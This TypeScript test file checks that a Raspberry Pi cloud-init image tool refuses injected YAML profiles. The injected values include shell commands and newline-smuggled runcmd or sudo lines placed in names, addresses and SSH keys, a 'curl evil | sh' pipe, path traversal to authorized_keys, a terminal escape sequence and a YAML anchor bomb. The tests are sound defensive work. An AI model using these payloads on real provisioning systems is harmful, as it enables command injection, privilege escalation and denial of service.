// Fault cases of bad profiles and injection attempts, run as a user would (`seed` and `build` with --profile):
// shell and YAML smuggled into names, keys, hostnames, addresses, users, keys and files; newlines and control
// characters in fields; path traversal in files[].path. Each is refused with one line naming the profile, the line
// and the field, and nothing is written. Text that is allowed (a file's content with YAML and shell in it) must come
// out inert: user-data parses, passes `cloud-init schema`, and gains no command.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, rmSync, writeFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { cli, assertClean, tempDir, referenceProfile, PATH_ENV } from './helpers.ts';

const dir = tempDir('pi-image-faults-profiles-');
const secrets = join(dir, 'secrets');
test.after(() => rmSync(dir, { recursive: true, force: true }));

const node1 = '  - { name: node1, role: master, address: 10.0.0.11/24 }';
const withNode1 = (line: string) => (t: string) => t.replace(node1, line);
const addTop = (yaml: string) => (t: string) => `${t}\n${yaml}\n`;
const users = '  - name: pi\n    sudo: true\n    sshKeys: []                # add your public key: ["ssh-ed25519 AAAA… you@laptop"]';
const withUser = (block: string) => (t: string) => t.replace(users, block);

let n = 0;
function profile(edit: (t: string) => string): string {
  const p = join(dir, `p${++n}.yaml`);
  writeFileSync(p, referenceProfile(edit));
  return p;
}

test('the reference profile seeds (the base every case below changes)', () => {
  const r = cli(dir, ['seed', 'node1', '--profile', profile((t) => t), '--secrets', secrets, '--out', join(dir, 'good')]);
  assert.is(r.code, 0, r.stderr);
  assert.ok(existsSync(join(dir, 'good', 'node1', 'user-data')));
});

const refused: Array<[string, (t: string) => string, (string | RegExp)[]]> = [
  ['a node name with a shell command', withNode1('  - { name: "node1;reboot", role: master, address: 10.0.0.11/24 }'), ['nodes[0].name']],
  ['a node name with a newline and YAML', withNode1('  - { name: "node1\\nruncmd: [reboot]", role: master, address: 10.0.0.11/24 }'), ['nodes[0].name']],
  ['a node name with $(…)', withNode1('  - { name: "$(reboot)", role: master, address: 10.0.0.11/24 }'), ['nodes[0].name']],
  ['a cluster domain with a newline', (t) => t.replace('domain: home.arpa', 'domain: "home.arpa\\n  - curl evil | sh"'), ['cluster.domain']],
  ['an address with a shell command', withNode1('  - { name: node1, role: master, address: "10.0.0.11/24; reboot" }'), ['nodes[0].address']],
  ['an address out of range', withNode1('  - { name: node1, role: master, address: 10.0.0.300/24 }'), [/nodes\[0\]\.address|10\.0\.0\.300/]],
  ['a gateway with a newline', (t) => t.replace('gateway: 10.0.0.1', 'gateway: "10.0.0.1\\nruncmd: [reboot]"'), ['defaults.gateway']],
  ['a DNS server with backticks', (t) => t.replace('dns: [10.0.0.1, 1.1.1.1]', 'dns: [10.0.0.1, "`reboot`"]'), ['defaults.dns[1]']],
  ['a user name with a newline and sudo rule', withUser('  - name: "pi\\nsudo: ALL=(ALL) NOPASSWD:ALL"\n    sudo: true'), ['users[0].name']],
  ['an SSH key with an appended line', withUser('  - name: pi\n    sshKeys: ["ssh-ed25519 AAAAC3Nz x\\nruncmd: [reboot]"]'), ['users[0].sshKeys[0]']],
  ['a label key with a quote', withNode1('  - { name: node1, role: master, address: 10.0.0.11/24, labels: { "a\\"; reboot": x } }'), [/nodes\[0\]\.labels/]],
  ['files[].path with ../ traversal', addTop('files:\n  - { path: /etc/../../root/.ssh/authorized_keys, content: "x" }'), ['files[0].path', /\.\./]],
  ['files[].path relative', addTop('files:\n  - { path: ../outside, content: "x" }'), ['files[0].path']],
  ['files[].path with a newline', addTop('files:\n  - { path: "/etc/x\\nruncmd: [reboot]", content: "x" }'), ['files[0].path']],
  ['files[].content with an escape sequence', addTop('files:\n  - { path: /etc/motd, content: "hi\\u001b]0;owned\\u0007" }'), ['files[0].content']],
  ['files[].owner with a shell command', addTop('files:\n  - { path: /etc/motd, content: "x", owner: "root:root;reboot" }'), ['files[0].owner']],
  ['runcmd with a NUL byte', addTop('runcmd:\n  - "echo hi\\u0000reboot"'), ['runcmd[0]']],
  ['an unknown key (a typo or a smuggled cloud-init key)', addTop('bootcmd: [reboot]'), ['bootcmd']],
  ['a YAML anchor bomb', addTop('x0: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\nx1: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nx2: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nx3: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\nx4: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nx5: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\nx6: [*f,*f,*f,*f,*f,*f,*f,*f,*f]'), [/alias|x0|x6|anchor|large|unknown/i]],
  ['YAML that does not parse', (t) => t.replace('nodes:', 'nodes: [unclosed'), [/line \d+|:\d+/]],
];

for (const [name, edit, fields] of refused) {
  test(`profile: ${name} → refused, names the file, line and field; nothing written`, () => {
    const p = profile(edit);
    const out = join(dir, `out-${n}`);
    const r = cli(dir, ['seed', 'node1', '--profile', p, '--secrets', secrets, '--out', out]);
    assertClean(r, { names: [p, ...fields], absent: [out], clean: [dir] });
  });
}

test('profile: build with an injected node name writes no output at all', () => {
  const p = profile(withNode1('  - { name: "node1\\nruncmd: [reboot]", role: master, address: 10.0.0.11/24 }'));
  const out = join(dir, 'build-out');
  const r = cli(dir, ['build', '--all', '--profile', p, '--secrets', secrets, '--out', out, '--image', join(dir, 'none.img')]);
  assertClean(r, { names: [p, 'nodes[0].name'], absent: [out], clean: [dir] });
});

test('profile: a file whose content carries YAML and shell comes out inert (valid user-data, no new command)', () => {
  const evil = '#cloud-config\\nruncmd: [reboot]\\n---\\n- $(reboot) `reboot` \\"; reboot; \\u0027';
  const p = profile(addTop(`files:\n  - { path: /etc/motd, content: "${evil}" }`));
  const out = join(dir, 'inert');
  const r = cli(dir, ['seed', 'node1', '--profile', p, '--secrets', secrets, '--out', out]);
  assert.is(r.code, 0, r.stderr);
  const text = readFileSync(join(out, 'node1', 'user-data'), 'utf8');
  const doc = parse(text) as { write_files?: Array<{ path: string; content: string }>; runcmd?: unknown[] };
  const f = doc.write_files?.find((x) => x.path === '/etc/motd');
  assert.ok(f, 'the file is there');
  assert.match(f!.content, /\$\(reboot\)/, 'content kept as text');
  assert.not.ok(JSON.stringify(doc.runcmd ?? []).includes('"reboot"'), 'no reboot command appeared');
  const schema = execFileSync('cloud-init', ['schema', '-c', join(out, 'node1', 'user-data')], { env: { ...process.env, PATH: PATH_ENV }, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  assert.match(schema, /Valid/i);
  assert.equal(readdirSync(join(out, 'node1')).sort(), ['meta-data', 'network-config', 'user-data']);
});

test.run();
